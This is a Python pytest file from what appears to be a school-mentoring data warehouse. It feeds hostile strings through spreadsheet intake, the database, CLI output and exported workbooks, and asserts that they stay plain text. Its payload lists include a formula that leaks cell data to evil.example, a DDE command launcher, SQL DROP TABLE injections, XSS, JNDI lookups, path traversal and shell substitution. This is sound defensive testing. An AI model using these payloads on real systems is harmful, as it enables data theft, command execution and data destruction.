"""Whatever a school, a register or a clerk writes stays text: in workbooks, tables, pages and on the screen."""

from __future__ import annotations

import json
import os
import re
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa

from tests.cli.conftest import runner
from tests.installations import ENGINES, installation, learn, rows
from tests.workbooks import Grid, grid, inn, snils, submission, write
from warehouse.findings.listing import FORMULA_SIGNS
from warehouse.register.reference import shipped_reference
from warehouse.tables.tables import tables_of

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "\ufeff=1+1", "＝1+1",
    "=cmd|'/C calc'!A0", "|calc", "{=1+1}", "http://evil.example", "mailto:a@evil.example", "internal:'Ряд'!A1", "_x0041_",
)  # fmt: skip
PAGES = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "</script><script>alert(1)</script>", "]]>", "&lt;b&gt;",
    "javascript:alert(1)", "a\u2028b", "<!--", "\\u003cscript\\u003e",
)  # fmt: skip
QUERIES = (
    "'); DROP TABLE mentoring.participants; --", '"; DROP SCHEMA mentoring CASCADE; --', "' OR '1'='1", "\\", "%s %(a)s", ":name",
    "$1", "{0.__class__}", "{{7*7}}", "{% raise %}", "${jndi:ldap://evil.example}", "#{7*7}", "\\N", "\\.",
)  # fmt: skip
SCREENS = (
    "\x1b[2J\x1b[31mред",
    "а\u202eskс",
    "а\nINFO принято",
    "\x07\x08",
    "\u009b31m",
    "../../etc/passwd",
    "*.csv [a] ?",
    "$(touch x)",
    "CON",
)
STRINGS = (*FORMULAS, *PAGES, *QUERIES, *SCREENS)
MOVING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # what a terminal obeys
FORM = (
    "ID участника",
    "Фамилия",
    "Имя",
    "Отчество",
    "Дата рождения",
    "СНИЛС",
    "Категория",
    "Класс / объединение",
    "Дата согласия",
)


def naughty() -> list[str]:
    """Return the strings, and the big list's where there is one."""
    corpus = os.environ.get("NASTAVNIK_HOSTILE", "")
    lists = sorted(Path(corpus).rglob("blns.json")) if corpus else []
    return [*STRINGS, *(text for one in lists for text in json.loads(one.read_text()) if 0 < len(text) < 300)]


MORE = naughty()


def people(texts: list[str]) -> Grid:
    """Every text once in each field that takes any; and as many with good names, for the pairs."""
    whole = ("обучающийся", "01.10.2020")
    born = [f"{n % 28 + 1:02d}.{n // 28 % 12 + 1:02d}.{2005 + n // 336}" for n in range(len(texts))]
    good = [[f"У-{n}", "Пробный", "Пётр", "", born[n], "", whole[0], text, whole[1]] for n, text in enumerate(texts)]
    bad = [
        [f"Х-{n}", text, text, text, "01.02.2009", snils(200000000 + n), whole[0], text, whole[1]]
        for n, text in enumerate(texts)
    ]
    return [list(FORM), *good, *bad]


def pairs(texts: list[str]) -> Grid:
    head = "ID пары | ID наставника | ID наставляемого | Форма наставничества | Ролевая модель | Программа | Запрос наставляемого | Дата начала | Итог | Результат"
    last = len(texts) - 1
    return [*grid(head), *(
        [f"П-{n}", f"У-{n}", f"У-{last - n}", "ученик – ученик", text, text, text, "01.10.2020", "продолжается", text]
        for n, text in enumerate(texts)
    )]  # fmt: skip


def hostile(texts: list[str]) -> dict[str, Grid]:
    """A submission with the texts in every field, as headings and as titles of sheets."""
    sheets = submission(Участники=people(texts), Пары=pairs(texts), students=5000)
    sheets["Партнёры"] = [["ИНН", "Наименование", "Тип", "Статус соглашения"], *([inn(600000000 + n), text, "предприятие", "заключено"] for n, text in enumerate(texts))]  # fmt: skip
    sheets["Практики"] = [
        ["Название", "Форма наставничества", "Результат"],
        *([text, "ученик – ученик", text] for text in texts),
    ]
    sheets["Мониторинг"] = [["Показатель", *texts], ["анкета куратора, баллов", *texts]]
    titles = {re.sub(r"[\[\]:*?/\\\x00-\x1f]|^'|'$", "", text)[:31].strip() for text in STRINGS}
    return sheets | {
        title: [list(STRINGS)] for title in sorted(titles) if title.strip("' ") and title.casefold() not in {"history"}
    }


def inert(book: Path) -> int:
    """Hold that a workbook computes nothing, points nowhere and has cells of known kinds; return its cells."""
    cells = 0
    with zipfile.ZipFile(book) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode()
            assert "externalLink" not in name and "vbaProject" not in name
            if name.endswith(".rels"):
                assert "External" not in text and "hyperlink" not in text.lower(), (book.name, name)
            if name.startswith("xl/worksheets/sheet"):
                assert not re.search(r"<f[ >/]|<hyperlink [^>]*r:id", text), (book.name, name)
                kinds = set(re.findall(r'<c [^>]*?t="(\w+)"', text))
                assert kinds <= {"s", "inlineStr", "b", "n"}, kinds
                cells += text.count("<c ")
    return cells


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.slow
def test_a_text_stays_a_text_on_its_whole_way(engine: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
    url = request.getfixturevalue("postgres_database") if engine == "postgresql" else None
    home_folder = tmp_path / "home"
    write(home_folder / "inbox/NSH-S007" / "=1+1 $(touch x) [a]*.xlsx", hostile(MORE))
    write(home_folder / "inbox/=1+1\x1b[31m" / "a.xlsx", submission())
    own = {"NASTAVNIK_WAREHOUSE_URL": url} if url else {}
    run = runner(home_folder)
    taken = run("intake", "--received-at", "2022-01-10", **own)
    assert taken.exit_code == 1, taken.output  # the folder that is nobody's is refused
    said = [
        run(*words.split(), **own)
        for words in ("status", "findings", "findings --format csv", "kpi --format csv", "persons queue",
                      "release --as-of 2021-12-31", "kpi --breakdown form", f"persons queue -o {tmp_path / 'queue.xlsx'}",
                      f"forms --institution NSH-S007 -o {tmp_path / 'forms.xlsx'}")
    ]  # fmt: skip
    assert [one.exit_code for one in said] == [0] * len(said), [one.output[-500:] for one in said]
    assert [MOVING.findall(one.output) for one in (taken, *said)] == [[]] * (len(said) + 1)
    for line in said[2].stdout.splitlines():
        assert not line.startswith(FORMULA_SIGNS)
    books = [*home_folder.rglob("*.xlsx"), *tmp_path.glob("*.xlsx")]
    assert len(books) >= 5
    assert all(inert(book) for book in books)
    with installation(home_folder, url) as home:
        stored = rows(home, tables_of().tables["mentoring.pairs"], "programme", "role_model")
        assert {text for row in stored for text in row if text} >= {"' OR '1'='1", "{{7*7}}", "%s %(a)s", "$1"}
        with home.reading() as connection:
            assert set(sa.inspect(connection).get_table_names(schema="mentoring")) >= {
                "participants",
                "pairs",
                "deliveries",
            }
    assert not list(tmp_path.rglob("x")) and not Path("x").exists()


def test_names_of_a_register_stay_texts(tmp_path: Path) -> None:
    """What an operator's own file says is shown on the screen too."""
    text = (shipped_reference() / "institutions.csv").read_text()
    with installation(tmp_path) as home:
        learn(home, tmp_path / "reference", institutions=text.replace("МБОУ СОШ № 7", "\x1b[31m=1+1 \u202eСОШ"))
    result = runner(tmp_path)("status", "--on", "2022-01-12")
    assert "=1+1" in result.output and not MOVING.search(result.output)
